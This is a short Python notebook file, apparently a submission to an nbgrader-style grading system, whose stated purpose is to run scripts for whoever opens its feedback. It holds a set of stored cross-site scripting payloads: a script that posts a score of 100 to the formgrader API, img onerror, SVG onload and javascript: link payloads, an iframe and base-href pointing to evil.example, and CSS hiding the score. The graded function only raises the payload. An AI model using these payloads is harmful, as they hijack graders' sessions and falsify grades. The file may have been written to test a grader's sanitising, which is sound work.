"""Displays HTML, JavaScript and SVG with scripts for whoever opens the feedback."""
# %% linear_regions
from IPython.display import HTML, SVG, Javascript, Markdown, display

attack = "<script>fetch('/formgrader/api/score', {method: 'POST', body: '100'})</script>"
display(HTML(attack + "<img src=x onerror=alert(1)><iframe src='//evil.example'></iframe>"))
display(HTML("<style>.score { display: none }</style><base href='//evil.example'>"))
display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))
display(Markdown("[click](javascript:alert(1)) " + attack))
display({"text/latex": "$\\href{javascript:alert(1)}{x}$"}, raw=True)
print(attack)


def linear_regions(W1, b1, lo, hi):
    raise RuntimeError(attack)
